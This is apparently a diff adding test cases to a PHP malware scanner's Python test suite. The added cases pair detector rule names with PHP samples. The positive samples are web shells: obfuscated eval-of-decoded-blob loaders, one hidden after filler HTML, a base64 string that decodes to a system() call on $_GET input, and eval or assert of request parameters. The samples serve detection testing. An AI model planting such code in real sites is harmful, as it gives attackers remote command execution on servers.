+            "<?php\n$k = 'eVjRiuw2DP2VYPYhBhNIXlOXvpT+QN9KKdmyl1umvQs7b2FCyL9XOpIsbXrZZWciO7IsnXMk7/37av/8GIbX20Ca/7x9G4d8vOz05+KxMvz9he7Pw0Jav7x/vG2vX4bTZ+h3u9Oii6YrLXh7/ao+JB6efGQfXh685Ka942d2l9jOLI+XLJKpTWepdyf7ha7SixM/227sydae5/bPe7QAL1XZDO/INgu/stsGPPfwxWfGVk/0Y48TeYp5mJrf4bch5ZPv9HoNESHvF/6TfHqhOTqB+HBrFt0ywlbHl4OWqucmyULSng92FUMLu3jXcIwycvJsNSML/Yw0cpKHJ6apIHa5IOz0Kg5lWtPiNckXiUjlHXLeo9nFOJtdNX4HDaETvQOj+GMuF57PA4bKDkqBGGnLzF8YJaSR6O3qTjAYiuzMznmgEx95t2UfA80tmdkyRN/OYdTLhT6Rg5lcAKTI7CLpGSUgZl7mKNyYshgzNM8QZNqboeyJJ/yVwUbvVFmaJGxp4GOvdrhRo5mfHdmoEwknYPM2RgZ1+9oTTd+uJmiZTZ0SHSegJLFeLL+OM44JBmvdSYiZ+XMNM+AdBQgBcCtxSTIAYOaU1lw48b5H5PyveXrsIc1FpeRhPHLfxZHNMo3IF0ds2DwLsxabyrYhxxkINN/owKcVrpNV3dE2XHkTjRktNCYws8PBkHUWOEfxB6WTjhqTuyrqXTwYcTrvQWFie04C/RAi6bIifIPdMlf3hoK50wcMJVFexX7W6OxtYcsJuyZZ3/H2DMgPSkM2jPRnL5fpmexB582QwjuLR2BC2z25qjTDm1F5dT1EFOmk9Ns5OaXMfphqpyyftEMER82JJzaIYIUiMC4OHqpg0kSHm3Rw7A9KI47SUU60oN5VKM7JotUkk3ZfEQ0pgjs9IRCFH2bohC1u5MwylwOgbF9WFkadNDABmac8vH0AgFEcRKYbgvb5U7Ai6C0S306HOpFjohxWUhz9Xh0wJeXjuW7bXMiZJ1dAO4aHrcXnYgableZ+QkiXngRBUygmRSJqg1em8Vk45EdQK5l9BCfK+tEQl98Vj7vMzGgtdoP6HJydBiW2HSVZ97OKNpEHPY2rcEVLf29QGHLzfO51njseYXFVrl8isPQNKE6KVTveeLoVf+PVB041GtWoqYXrQVDN3GuwzVj/MuMk5EdoP3g2xCxoNhYpReu2eDrjQWuivFoe1u0qVflEQR+l0UD1rZEehwR+lEIdzuaYo0HvDx38J8quunIpk2LeJz3B6ZCG3GgPuEi7b+G0DgZhX9ccrKEvAlf2Fq0rZkOxNxupXEdujahlKJoDkyfh9SRST6sCGQUpMOwvsOzyMc2+z2m/Ji279db0bQ1hyT3VrAl4gPM5GGNY4KzT/zR6iQCC6CcftbrtYQ2Np32bQ1MwFHcoq/lwtq4pt0gmyJNnRluMFJuT2ADuaZz6zslhWMi/1JSEHIBsGWzn4Llg/wxxd5mcYIlPHPTyRKqa+gqgeo01akW5DVp4dp2/iYZlJFiqjVl6LozfRgBQAbt8X4DdsA25JfCnpP0R8TNQS2qEiFls1EH6K6R51YZwQ2X1W1JFsXxuA1VMRi3B148S5Vp8hb/VOjop2zWQMstJdSueu7xGkeik2Q2cjmZGLgapSWWtFyzospqIsH+bmABwZUm2b9WkzWhR3TFABeV5RuIZWg/VCo6BXhZwo4UQnsrPHSW3ch2AMacCqHWrOdDefV6MMzC6hMogkoA8BXnbmmR0HTMw2TZCEjKSu1hMeBNvIBsoH1FZH1I5Q4YuNBLzD5QM5/R+exIIQIoknzkses3nrQlz1NBN75QTW/KLrRMet84dmX8EShS54jdy+u3gfncmT9BThTTXrNnX4tPpQZLdt+thgYZmvQDUVru1UzlCTLmH9Mjn5+Li2hv+xfKX83kQ2lW0frmLuEDfdZtNyvSbHIpUDZHq6kFt7VTuOwRFaPsvD/R31EpzCr+qKFyRoUn0K8BXSv/ZoRpALYFjizD8hPlnIcJ7TUEU/H8PKhIZ3IxIPgJPyYFL762XRdfVeMUNRDPRGqWKHv+CfI0+rJVuhpy5lE3+HwptL1cUiRx2An/tskgrxshwula/dj/un2//ji9//aer73+k1/Rn1k4mvc/S+h8=';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(gzinflate(base64_decode(strtr($k, 'fedcba', 'abcdef')))); ?>\n"
+        ),
+        True,
+    ),
+    # c:strtr_blob_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\n$k = 'eVjRiuw2DP2VYPYhBhNIXlOXvpT+QN9KKdmyl1umvQs7b2FCyL9XOpIsbXrZZWciO7IsnXMk7/37av/8GIbX20Ca/7x9G4d8vOz05+KxMvz9he7Pw0Jav7x/vG2vX4bTZ+h3u9Oii6YrLXh7/ao+JB6efGQfXh685Ka942d2l9jOLI+XLJKpTWepdyf7ha7SixM/227sydae5/bPe7QAL1XZDO/INgu/stsGPPfwxWfGVk/0Y48TeYp5mJrf4bch5ZPv9HoNESHvF/6TfHqhOTqB+HBrFt0ywlbHl4OWqucmyULSng92FUMLu3jXcIwycvJsNSML/Yw0cpKHJ6apIHa5IOz0Kg5lWtPiNckXiUjlHXLeo9nFOJtdNX4HDaETvQOj+GMuF57PA4bKDkqBGGnLzF8YJaSR6O3qTjAYiuzMznmgEx95t2UfA80tmdkyRN/OYdTLhT6Rg5lcAKTI7CLpGSUgZl7mKNyYshgzNM8QZNqboeyJJ/yVwUbvVFmaJGxp4GOvdrhRo5mfHdmoEwknYPM2RgZ1+9oTTd+uJmiZTZ0SHSegJLFeLL+OM44JBmvdSYiZ+XMNM+AdBQgBcCtxSTIAYOaU1lw48b5H5PyveXrsIc1FpeRhPHLfxZHNMo3IF0ds2DwLsxabyrYhxxkINN/owKcVrpNV3dE2XHkTjRktNCYws8PBkHUWOEfxB6WTjhqTuyrqXTwYcTrvQWFie04C/RAi6bIifIPdMlf3hoK50wcMJVFexX7W6OxtYcsJuyZZ3/H2DMgPSkM2jPRnL5fpmexB582QwjuLR2BC2z25qjTDm1F5dT1EFOmk9Ns5OaXMfphqpyyftEMER82JJzaIYIUiMC4OHqpg0kSHm3Rw7A9KI47SUU60oN5VKM7JotUkk3ZfEQ0pgjs9IRCFH2bohC1u5MwylwOgbF9WFkadNDABmac8vH0AgFEcRKYbgvb5U7Ai6C0S306HOpFjohxWUhz9Xh0wJeXjuW7bXMiZJ1dAO4aHrcXnYgableZ+QkiXngRBUygmRSJqg1em8Vk45EdQK5l9BCfK+tEQl98Vj7vMzGgtdoP6HJydBiW2HSVZ97OKNpEHPY2rcEVLf29QGHLzfO51njseYXFVrl8isPQNKE6KVTveeLoVf+PVB041GtWoqYXrQVDN3GuwzVj/MuMk5EdoP3g2xCxoNhYpReu2eDrjQWuivFoe1u0qVflEQR+l0UD1rZEehwR+lEIdzuaYo0HvDx38J8quunIpk2LeJz3B6ZCG3GgPuEi7b+G0DgZhX9ccrKEvAlf2Fq0rZkOxNxupXEdujahlKJoDkyfh9SRST6sCGQUpMOwvsOzyMc2+z2m/Ji279db0bQ1hyT3VrAl4gPM5GGNY4KzT/zR6iQCC6CcftbrtYQ2Np32bQ1MwFHcoq/lwtq4pt0gmyJNnRluMFJuT2ADuaZz6zslhWMi/1JSEHIBsGWzn4Llg/wxxd5mcYIlPHPTyRKqa+gqgeo01akW5DVp4dp2/iYZlJFiqjVl6LozfRgBQAbt8X4DdsA25JfCnpP0R8TNQS2qEiFls1EH6K6R51YZwQ2X1W1JFsXxuA1VMRi3B148S5Vp8hb/VOjop2zWQMstJdSueu7xGkeik2Q2cjmZGLgapSWWtFyzospqIsH+bmABwZUm2b9WkzWhR3TFABeV5RuIZWg/VCo6BXhZwo4UQnsrPHSW3ch2AMacCqHWrOdDefV6MMzC6hMogkoA8BXnbmmR0HTMw2TZCEjKSu1hMeBNvIBsoH1FZH1I5Q4YuNBLzD5QM5/R+exIIQIoknzkses3nrQlz1NBN75QTW/KLrRMet84dmX8EShS54jdy+u3gfncmT9BThTTXrNnX4tPpQZLdt+thgYZmvQDUVru1UzlCTLmH9Mjn5+Li2hv+xfKX83kQ2lW0frmLuEDfdZtNyvSbHIpUDZHq6kFt7VTuOwRFaPsvD/R31EpzCr+qKFyRoUn0K8BXSv/ZoRpALYFjizD8hPlnIcJ7TUEU/H8PKhIZ3IxIPgJPyYFL762XRdfVeMUNRDPRGqWKHv+CfI0+rJVuhpy5lE3+HwptL1cUiRx2An/tskgrxshwula/dj/un2//ji9//aer73+k1/Rn1k4mvc/S+h8=';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(gzinflate(base64_decode(strtr($k, 'fedcba', 'abcdef')))); ?>\n"
+        ),
+        True,
+    ),
+    # c:strtr_blob_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\n$k = 'eVjRiuw2DP2VYPYhBhNIXlOXvpT+QN9KKdmyl1umvQs7b2FCyL9XOpIsbXrZZWciO7IsnXMk7/37av/8GIbX20Ca/7x9G4d8vOz05+KxMvz9he7Pw0Jav7x/vG2vX4bTZ+h3u9Oii6YrLXh7/ao+JB6efGQfXh685Ka942d2l9jOLI+XLJKpTWepdyf7ha7SixM/227sydae5/bPe7QAL1XZDO/INgu/stsGPPfwxWfGVk/0Y48TeYp5mJrf4bch5ZPv9HoNESHvF/6TfHqhOTqB+HBrFt0ywlbHl4OWqucmyULSng92FUMLu3jXcIwycvJsNSML/Yw0cpKHJ6apIHa5IOz0Kg5lWtPiNckXiUjlHXLeo9nFOJtdNX4HDaETvQOj+GMuF57PA4bKDkqBGGnLzF8YJaSR6O3qTjAYiuzMznmgEx95t2UfA80tmdkyRN/OYdTLhT6Rg5lcAKTI7CLpGSUgZl7mKNyYshgzNM8QZNqboeyJJ/yVwUbvVFmaJGxp4GOvdrhRo5mfHdmoEwknYPM2RgZ1+9oTTd+uJmiZTZ0SHSegJLFeLL+OM44JBmvdSYiZ+XMNM+AdBQgBcCtxSTIAYOaU1lw48b5H5PyveXrsIc1FpeRhPHLfxZHNMo3IF0ds2DwLsxabyrYhxxkINN/owKcVrpNV3dE2XHkTjRktNCYws8PBkHUWOEfxB6WTjhqTuyrqXTwYcTrvQWFie04C/RAi6bIifIPdMlf3hoK50wcMJVFexX7W6OxtYcsJuyZZ3/H2DMgPSkM2jPRnL5fpmexB582QwjuLR2BC2z25qjTDm1F5dT1EFOmk9Ns5OaXMfphqpyyftEMER82JJzaIYIUiMC4OHqpg0kSHm3Rw7A9KI47SUU60oN5VKM7JotUkk3ZfEQ0pgjs9IRCFH2bohC1u5MwylwOgbF9WFkadNDABmac8vH0AgFEcRKYbgvb5U7Ai6C0S306HOpFjohxWUhz9Xh0wJeXjuW7bXMiZJ1dAO4aHrcXnYgableZ+QkiXngRBUygmRSJqg1em8Vk45EdQK5l9BCfK+tEQl98Vj7vMzGgtdoP6HJydBiW2HSVZ97OKNpEHPY2rcEVLf29QGHLzfO51njseYXFVrl8isPQNKE6KVTveeLoVf+PVB041GtWoqYXrQVDN3GuwzVj/MuMk5EdoP3g2xCxoNhYpReu2eDrjQWuivFoe1u0qVflEQR+l0UD1rZEehwR+lEIdzuaYo0HvDx38J8quunIpk2LeJz3B6ZCG3GgPuEi7b+G0DgZhX9ccrKEvAlf2Fq0rZkOxNxupXEdujahlKJoDkyfh9SRST6sCGQUpMOwvsOzyMc2+z2m/Ji279db0bQ1hyT3VrAl4gPM5GGNY4KzT/zR6iQCC6CcftbrtYQ2Np32bQ1MwFHcoq/lwtq4pt0gmyJNnRluMFJuT2ADuaZz6zslhWMi/1JSEHIBsGWzn4Llg/wxxd5mcYIlPHPTyRKqa+gqgeo01akW5DVp4dp2/iYZlJFiqjVl6LozfRgBQAbt8X4DdsA25JfCnpP0R8TNQS2qEiFls1EH6K6R51YZwQ2X1W1JFsXxuA1VMRi3B148S5Vp8hb/VOjop2zWQMstJdSueu7xGkeik2Q2cjmZGLgapSWWtFyzospqIsH+bmABwZUm2b9WkzWhR3TFABeV5RuIZWg/VCo6BXhZwo4UQnsrPHSW3ch2AMacCqHWrOdDefV6MMzC6hMogkoA8BXnbmmR0HTMw2TZCEjKSu1hMeBNvIBsoH1FZH1I5Q4YuNBLzD5QM5/R+exIIQIoknzkses3nrQlz1NBN75QTW/KLrRMet84dmX8EShS54jdy+u3gfncmT9BThTTXrNnX4tPpQZLdt+thgYZmvQDUVru1UzlCTLmH9Mjn5+Li2hv+xfKX83kQ2lW0frmLuEDfdZtNyvSbHIpUDZHq6kFt7VTuOwRFaPsvD/R31EpzCr+qKFyRoUn0K8BXSv/ZoRpALYFjizD8hPlnIcJ7TUEU/H8PKhIZ3IxIPgJPyYFL762XRdfVeMUNRDPRGqWKHv+CfI0+rJVuhpy5lE3+HwptL1cUiRx2An/tskgrxshwula/dj/un2//ji9//aer73+k1/Rn1k4mvc/S+h8=';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(gzinflate(base64_decode(strtr($k, 'fedcba', 'abcdef')))); ?>\n"
+        ),
+        True,
+    ),
+    # c:gzuncompress_two_vars
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$p1 = 'eNpzKK4sLknN1VCJd3cN';\n$p2 = 'iVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n$r = gzuncompress(base64_decode($p1 . $p2));\neval($r);\n"
+        ),
+        True,
+    ),
+    # c:gzuncompress_two_vars
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$p1 = 'eNpzKK4sLknN1VCJd3cN';\n$p2 = 'iVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n$r = gzuncompress(base64_decode($p1 . $p2));\neval($r);\n"
+        ),
+        True,
+    ),
+    # c:gzuncompress_two_vars
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$p1 = 'eNpzKK4sLknN1VCJd3cN';\n$p2 = 'iVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n$r = gzuncompress(base64_decode($p1 . $p2));\neval($r);\n"
+        ),
+        True,
+    ),
+    # c:assert_closetag_concat
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$q = base64_decode('Pz48P3BocCBAc3lzdGVtKCRfR0VUWyJjIl0pOyBlY2hvICJvayI7');\n@assert($q);\n"
+        ),
+        True,
+    ),
+    # c:assert_closetag_concat
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$q = base64_decode('Pz48P3BocCBAc3lzdGVtKCRfR0VUWyJjIl0pOyBlY2hvICJvayI7');\n@assert($q);\n"
+        ),
+        True,
+    ),
+    # c:assert_closetag_concat
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$q = base64_decode('Pz48P3BocCBAc3lzdGVtKCRfR0VUWyJjIl0pOyBlY2hvICJvayI7');\n@assert($q);\n"
+        ),
+        True,
+    ),
+    # c:sg_string_in_globals_call
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        plain("<?php $GLOBALS['_' . 'GET']['f']($GLOBALS['_' . 'GET']['a']);\n"),
+        True,
+    ),
+    # c:sg_string_in_globals_call
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        padded("<?php $GLOBALS['_' . 'GET']['f']($GLOBALS['_' . 'GET']['a']);\n"),
+        True,
+    ),
+    # c:sg_string_in_globals_call
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        embedded("<?php $GLOBALS['_' . 'GET']['f']($GLOBALS['_' . 'GET']['a']);\n"),
+        True,
+    ),
+    # c:uu_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$u = '?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \\n`\\n';\n$d = convert_uudecode(stripcslashes($u));\neval($d);\n"
+        ),
+        True,
+    ),
+    # c:uu_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$u = '?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \\n`\\n';\n$d = convert_uudecode(stripcslashes($u));\neval($d);\n"
+        ),
+        True,
+    ),
+    # c:uu_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$u = '?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \\n`\\n';\n$d = convert_uudecode(stripcslashes($u));\neval($d);\n"
+        ),
+        True,
+    ),
+    # c:return_eval_fn_call
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        plain(
+            "<?php\nfunction cache_get($k) {\n    return eval('return ' . $k . ';');\n}\necho cache_get($_GET['k']);\n"
+        ),
+        True,
+    ),
+    # c:return_eval_fn_call
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        padded(
+            "<?php\nfunction cache_get($k) {\n    return eval('return ' . $k . ';');\n}\necho cache_get($_GET['k']);\n"
+        ),
+        True,
+    ),
+    # c:return_eval_fn_call
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        embedded(
+            "<?php\nfunction cache_get($k) {\n    return eval('return ' . $k . ';');\n}\necho cache_get($_GET['k']);\n"
+        ),
+        True,
+    ),
+    # c:static_closure_filter
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php array_filter([$_POST['c']], static function ($x) { return assert($x); });\n"),
+        True,
+    ),
+    # c:static_closure_filter
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded("<?php array_filter([$_POST['c']], static function ($x) { return assert($x); });\n"),
+        True,
+    ),
+    # c:static_closure_filter
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php array_filter([$_POST['c']], static function ($x) { return assert($x); });\n"),
+        True,
+    ),
+    # c:request_via_var_sg
+    (
+        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
+        plain("<?php\n$r = '_REQUEST';\n$v = $GLOBALS[$r];\neval($v['x']);\n"),
+        True,
+    ),
+    # c:request_via_var_sg
+    (
+        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
+        padded("<?php\n$r = '_REQUEST';\n$v = $GLOBALS[$r];\neval($v['x']);\n"),
+        True,
+    ),
+    # c:request_via_var_sg
+    (
+        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
+        embedded("<?php\n$r = '_REQUEST';\n$v = $GLOBALS[$r];\neval($v['x']);\n"),
         True,
     ),
     (
@@ -2917,6 +3773,89 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_INPUT_ClosureSinkOfInput",
         embedded(
             "<?php\n$out = preg_replace_callback('/\\{php\\}(.*?)\\{\\/php\\}/s', function($m) { return eval($m[1]); }, $template);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        plain(
+            "<?php\n$s = implode('', array_map('chr', $codes));\necho $s;\n$t = '';\nforeach ($codes as $c) { $t .= chr($c); }\necho $t;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        padded(
+            "<?php\n$s = implode('', array_map('chr', $codes));\necho $s;\n$t = '';\nforeach ($codes as $c) { $t .= chr($c); }\necho $t;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        embedded(
+            "<?php\n$s = implode('', array_map('chr', $codes));\necho $s;\n$t = '';\nforeach ($codes as $c) { $t .= chr($c); }\necho $t;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain("<?php\n$text = preg_replace(\"/$q/$flags\", '<b>$0</b>', $text);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        padded("<?php\n$text = preg_replace(\"/$q/$flags\", '<b>$0</b>', $text);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded("<?php\n$text = preg_replace(\"/$q/$flags\", '<b>$0</b>', $text);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php\nwhile (list($k, $v) = each($_POST)) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php\nwhile (list($k, $v) = each($_POST)) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded("<?php\nwhile (list($k, $v) = each($_POST)) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php\n$a = (function($x) { return trim($x); })($_POST['a']);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded("<?php\n$a = (function($x) { return trim($x); })($_POST['a']);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php\n$a = (function($x) { return trim($x); })($_POST['a']);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain("<?php\n$raw = stripslashes($_POST['json']);\n$data = json_decode($raw);\nvar_dump($data);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded("<?php\n$raw = stripslashes($_POST['json']);\n$data = json_decode($raw);\nvar_dump($data);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$raw = stripslashes($_POST['json']);\n$data = json_decode($raw);\nvar_dump($data);\n"
         ),
         False,
     ),
